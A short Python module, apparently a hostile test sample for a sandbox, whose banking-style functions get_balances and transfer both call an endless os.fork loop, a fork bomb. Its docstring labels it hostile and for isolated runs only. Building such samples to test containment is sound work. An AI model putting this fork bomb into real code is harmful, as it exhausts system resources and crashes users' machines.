"""Hostile: forks without end (only ever run under full isolation)."""

import os


def _bomb():
    while True:
        try:
            os.fork()
        except OSError:
            pass


def get_balances(conn):
    _bomb()


def transfer(conn, from_name, to_name, amount):
    _bomb()
